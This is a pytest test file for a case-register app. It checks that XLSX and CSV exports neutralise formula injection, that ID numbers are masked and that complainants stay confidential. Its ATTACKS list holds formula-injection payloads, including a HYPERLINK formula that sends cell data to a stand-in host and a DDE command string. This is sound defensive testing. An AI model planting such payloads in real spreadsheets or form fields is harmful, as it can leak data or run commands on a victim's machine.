"""The register books: what they list, what leaves the program, and that no cell of it can act."""

import csv
import hashlib
import io

import pypdfium2
import pytest
from openpyxl import load_workbook

from lockdesk.app import OpenProfile
from lockdesk.core.quarters import Quarter
from lockdesk.desk.values.people import Applicant
from lockdesk.desk.values.reports import BookFilter, BookFormat, BookKind
from lockdesk.desk.values.sheets import PaperSize
from tests.helpers.desk.counter import form, text_of
from tests.helpers.desk.journal import entries
from tests.helpers.desk.story import Story, person

CASES, COMPLAINTS = BookFilter(BookKind.CASES, 2026), BookFilter(BookKind.COMPLAINTS, 2026)
ATTACKS = (
    '=HYPERLINK("http://contoh.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "Dinas;=1+1", "Dinas, =1+1", "＝1+1", "'=1+1",
)  # fmt: skip


@pytest.fixture
def story(profile: OpenProfile) -> Story:
    return Story(profile.casebook)


def attacked(story: Story) -> None:
    for n, text in enumerate(ATTACKS):
        agency, name = (text, "Contoh") if n % 2 else ("Dinas Contoh", text)
        applicant = Applicant(name=name, agency=agency, nip="199002152019032999", nik="3375995502909901")
        story.receive(f"2026-11-23 08.{n:02}", applicant, "2026-11-24 15.45")


def test_no_cell_of_a_workbook_is_a_formula(profile: OpenProfile, story: Story) -> None:
    attacked(story)
    sheet = load_workbook(io.BytesIO(profile.desk.books.export(CASES, BookFormat.XLSX))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"} and all(cell.quotePrefix for cell in cells)
    texts = {str(cell.value) for cell in cells}
    assert {"-2+3", "@SUM(1+1)", "=1+1", "Dinas;=1+1"} <= texts, "what was written stands there as it was written"


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_field_of_a_csv_begins_a_formula_whatever_separates_it(
    profile: OpenProfile, story: Story, delimiter: str
) -> None:
    attacked(story)
    text = profile.desk.books.export(CASES, BookFormat.CSV).decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text), delimiter=delimiter) for field in row]
    assert len(fields) >= len(ATTACKS)
    begun = [field for field in fields if field.strip().strip('"').lstrip().startswith(tuple("=+-@＝"))]
    assert begun == []


def test_a_csv_is_read_back_row_by_row(profile: OpenProfile, story: Story) -> None:
    story.receive("2026-11-23 08.05", person(1, "Dinas Contoh; Bidang Contoh"), "2026-11-24 15.45")
    text = profile.desk.books.export(CASES, BookFormat.CSV).decode("utf-8-sig")
    head, row = csv.reader(io.StringIO(text), delimiter=";")
    found = dict(zip(head, row, strict=True))
    assert (found["Nama"], found["Unit kerja"]) == ("Contoh Pemohon 1", "Dinas Contoh; Bidang Contoh")
    assert (found["Nomor"], found["Diterima"]) == ("LATIH-LOCK-2026-0001", "23-11-2026 08.05")


@pytest.mark.parametrize("kept", list(BookFormat))
def test_an_export_stands_in_the_journal(profile: OpenProfile, story: Story, kept: BookFormat) -> None:
    story.receive("2026-11-23 08.05", person(1, "Dinas Contoh"), "2026-11-24 15.45")
    content = profile.desk.books.export(BookFilter(BookKind.CASES, 2026, quarter=4, state="running"), kept)
    entry = entries(profile)[-1]
    assert (entry["kind"], entry["facts"]) == (
        "book.exported",
        {
            "book": "cases", "period": "2026-4-0", "state": "running", "rows": 1, "format": kept.value,
            "sha256": hashlib.sha256(content).hexdigest(),
        },
    )  # fmt: skip
    assert profile.casebook.verify_journal().whole


def test_a_book_is_narrowed_by_quarter_month_and_state(profile: OpenProfile, story: Story) -> None:
    for at in ("2026-09-30 15.00", "2026-09-30 16.00", "2026-11-02 09.00", "2026-12-31 16.00"):
        story.receive(at, person(1, "Dinas Contoh"), "2027-02-01 08.00")
    ended = story.receive("2026-11-30 15.50", person(2, "Dinas Contoh"), "2026-12-02 15.45")
    story.withdraw("2026-12-01 09.00", ended)

    def numbers(**narrowed: object) -> list[str]:
        book = profile.desk.books.read(BookFilter(BookKind.CASES, 2026, **narrowed))  # type: ignore[arg-type]
        return [row[0][-1] for row in book.rows]

    running, withdrawn = (profile.desk.books.read(BookFilter(BookKind.CASES, 2026)).rows[place] for place in (0, -1))
    assert "2027" in running[-1] and withdrawn[-1] == "", "until when what is open is due"
    summary = profile.desk.evaluation.summary(Quarter(2026, 4))
    assert "3 diterima, 0 selesai, 0 ditolak, 1 ditarik, 3 berjalan." in summary
    assert numbers() == ["1", "2", "3", "5"], "what comes after the year's last closing belongs to the next year's book"
    assert numbers(quarter=4) == ["2", "3", "5"]
    assert (numbers(month=9), numbers(month=10), numbers(month=11), numbers(month=12)) == (["1"], ["2"], ["3"], ["5"])
    assert (numbers(state="withdrawn"), numbers(state="running")) == (["5"], ["1", "2", "3"])
    assert [row[0][-1] for row in profile.desk.books.read(BookFilter(BookKind.CASES, 2027)).rows] == ["4"]


def test_no_book_holds_a_whole_nik_or_says_who_complained_in_confidence(profile: OpenProfile, story: Story) -> None:
    story.receive("2026-11-23 08.05", person(1, "Dinas Contoh"), "2026-11-24 15.45")
    nik = person(1, "").nik
    receive = profile.desk.complaints.receive
    receive(form(description=f"NIK saya {nik} tidak terbaca.", case_number="LATIH-LOCK-2026-0001"))
    receive(form(name="Tri Rahasiawan", confidential=True, description="Saya Tri Rahasiawan.",
                 case_number="LATIH-LOCK-2026-0001"))  # fmt: skip
    for chosen in (CASES, COMPLAINTS):
        words = text_of(profile.desk.prints.make("register_book", chosen, PaperSize.A4).pdf)
        exported = profile.desk.books.export(chosen, BookFormat.CSV).decode("utf-8-sig")
        for text in (words, exported):
            assert nik not in text and "Rahasiawan" not in text
            assert (chosen is COMPLAINTS) is ("dirahasiakan" in text)
    rows = profile.desk.books.read(COMPLAINTS).rows
    assert [row[6] for row in rows] == ["LATIH-LOCK-2026-0001", "dirahasiakan"]


def test_a_book_prints_across_with_numbered_columns_and_pages(profile: OpenProfile, story: Story) -> None:
    for n in range(40):
        story.receive("2026-11-23 08.05", person(n, "Dinas Contoh"), "2026-11-24 15.45")
    made = profile.desk.prints.make("register_book", BookFilter(BookKind.CASES, 2026, month=11), PaperSize.A4)
    document = pypdfium2.PdfDocument(made.pdf)
    pages = [" ".join(page.get_textpage().get_text_range().split()) for page in document]
    assert all(page.get_width() > page.get_height() for page in document)
    document.close()
    assert len(pages) > 1
    for n, words in enumerate(pages, 1):
        assert "(1) (2) (3)" in words or n == len(pages)
        assert f"halaman {n}/{len(pages)}" in words
    assert "LATIH-LOCK-2026-0001" in pages[0]
    facts = entries(profile)[-2]["facts"]
    assert facts == {"print": "register_book", "size": "A4", "book": "cases", "period": "November 2026", "rows": 40}


def test_an_empty_book_prints_and_is_exported(profile: OpenProfile) -> None:
    empty = BookFilter(BookKind.COMPLAINTS, 2024)
    words = text_of(profile.desk.prints.make("register_book", empty, PaperSize.A4).pdf)
    assert "Tidak ada catatan pada periode ini." in words
    assert profile.desk.books.export(empty, BookFormat.CSV).decode("utf-8-sig").count("\r\n") == 1
